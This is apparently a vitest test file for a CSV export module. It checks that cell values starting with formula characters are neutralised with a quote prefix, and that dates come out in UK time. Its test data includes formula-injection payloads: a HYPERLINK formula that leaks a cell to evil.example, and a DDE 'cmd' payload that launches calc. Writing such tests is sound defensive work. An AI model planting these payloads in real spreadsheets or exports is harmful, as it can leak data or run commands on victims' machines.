import { describe, expect, it } from "vitest";
import { csvDate, csvDateTime, csvHeader, csvRow, neutraliseCsvCell, toCsvCell, type CsvColumn } from "./csv";

describe("neutralising CSV cells against formula injection", () => {
  it.each([
    [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
      `'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`,
    ],
    ["=1+2", "'=1+2"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+2", "'\t=1+2"],
    ["\r=1+2", "'\r=1+2"],
    ["＝1+2", "'＝1+2"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠SUM(A1)", "'＠SUM(A1)"],
  ])("prefixes %j with a single quote", (hostile, safe) => {
    expect(neutraliseCsvCell(hostile)).toBe(safe);
  });

  it.each([
    "Falls at night",
    "Zoë Ørsted-Nguyễn, 李小龍",
    'He said "no"',
    "a, b, c",
    "line one\nline two",
    "1-2 a week",
    "a=b",
    " =1+2",
    "'quoted already",
    "",
  ])("leaves %j as it is", (text) => {
    expect(neutraliseCsvCell(text)).toBe(text);
  });
});

describe("cell values", () => {
  it("writes nothing as empty, booleans as Yes/No, numbers as numbers and text neutralised", () => {
    expect(toCsvCell(null)).toBe("");
    expect(toCsvCell(undefined)).toBe("");
    expect(toCsvCell(true)).toBe("Yes");
    expect(toCsvCell(false)).toBe("No");
    expect(toCsvCell(3.25)).toBe("3.25");
    expect(toCsvCell(0)).toBe("0");
    expect(toCsvCell(Number.NaN)).toBe("");
    expect(toCsvCell("=cmd")).toBe("'=cmd");
  });

  it("writes dates and times in UK time, as spreadsheets read them", () => {
    // 14 March 2026 is GMT; 14 June 2026 is BST (UTC+1).
    expect(csvDateTime(new Date("2026-03-14T09:05:00Z"))).toBe("2026-03-14 09:05");
    expect(csvDateTime(new Date("2026-06-14T23:30:00Z"))).toBe("2026-06-15 00:30");
    expect(csvDate(new Date("2026-06-14T23:30:00Z"))).toBe("2026-06-15");
    expect(toCsvCell(new Date("2026-03-14T09:05:00Z"))).toBe("2026-03-14 09:05");
  });

  it("neutralises headings and every cell of a row", () => {
    const columns: CsvColumn<{ name: string; n: number }>[] = [
      { header: "Name", value: (r) => r.name },
      { header: "=Count", value: (r) => r.n },
    ];
    expect(csvHeader(columns)).toEqual(["Name", "'=Count"]);
    expect(csvRow(columns, { name: "@evil", n: 2 })).toEqual(["'@evil", "2"]);
  });
});
